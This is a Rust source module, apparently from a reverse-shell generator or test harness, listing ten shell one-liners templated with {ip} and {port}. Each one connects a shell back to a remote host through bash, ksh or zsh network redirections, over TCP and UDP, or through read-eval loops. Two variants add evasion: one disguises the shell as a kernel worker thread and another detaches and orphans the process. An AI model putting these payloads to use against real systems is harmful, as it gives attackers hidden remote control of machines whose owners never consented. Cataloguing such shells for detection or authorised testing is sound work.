//! Shells that open the connection themselves.

use super::super::variant::{Class, Transport, Variant};

pub(super) const ALL: &[Variant] = &[
    Variant::tcp("bash /dev/tcp", Class::Direct, &["bash"], &["bash", "-c", "bash -i >& /dev/tcp/{ip}/{port} 0>&1"]),
    Variant::tcp(
        "bash /dev/tcp, sh on 196",
        Class::Direct,
        &["bash"],
        &["bash", "-c", "0<&196;exec 196<>/dev/tcp/{ip}/{port}; sh <&196 >&196 2>&196"],
    ),
    // No exec follows the redirection: the process that reads commands is the one that was there.
    Variant::tcp(
        "bash exec 0<> itself",
        Class::Direct,
        &["bash"],
        &["bash", "-c", "printf 'exec 0<>/dev/tcp/{ip}/{port} 1>&0 2>&0\\n' | bash"],
    ),
    Variant::tcp(
        "bash exec 5<> loop",
        Class::Loop,
        &["bash"],
        &["bash", "-c", "exec 5<>/dev/tcp/{ip}/{port}; cat <&5 | while read line; do $line 2>&5 >&5; done"],
    )
    .per_command(),
    Variant::tcp(
        "bash exec 5<> read loop",
        Class::Loop,
        &["bash"],
        &["bash", "-c", "exec 5<>/dev/tcp/{ip}/{port}; while read -r line <&5; do out=$(eval \"$line\" 2>&1); echo \"$out\" >&5; done"],
    )
    .per_command(),
    // bash itself reads a byte at a time, which loses the rest of each datagram; dash does not.
    Variant::tcp("bash /dev/udp", Class::Udp, &["bash"], &["bash", "-c", "/bin/sh -i >& /dev/udp/{ip}/{port} 0>&1"])
        .over(Transport::Udp),
    Variant::tcp(
        "bash re-execed under another name",
        Class::Direct,
        &["bash"],
        &["bash", "-c", "exec 3<>/dev/tcp/{ip}/{port}; exec -a '[kworker/0:1]' bash <&3 >&3 2>&3"],
    ),
    Variant::tcp(
        "setsid nohup, orphaned",
        Class::Direct,
        &["bash", "setsid", "nohup"],
        &["bash", "-c", "(cd /tmp; setsid nohup bash -c 'sh -i <>/dev/tcp/{ip}/{port} >&0 2>&0' >/dev/null 2>&1 &)"],
    ),
    // Neither Debian's ksh nor zsh's ztcp connects over IPv6.
    Variant::tcp(
        "ksh /dev/tcp",
        Class::Direct,
        &["ksh"],
        &["ksh", "-c", "exec 3<>/dev/tcp/{ip}/{port}; sh <&3 >&3 2>&3"],
    )
    .only_v4(),
    Variant::tcp(
        "zsh ztcp",
        Class::Direct,
        &["zsh"],
        &["zsh", "-c", "zmodload zsh/net/tcp && ztcp {ip} {port} && zsh <&$REPLY >&$REPLY 2>&$REPLY"],
    )
    .only_v4(),
];
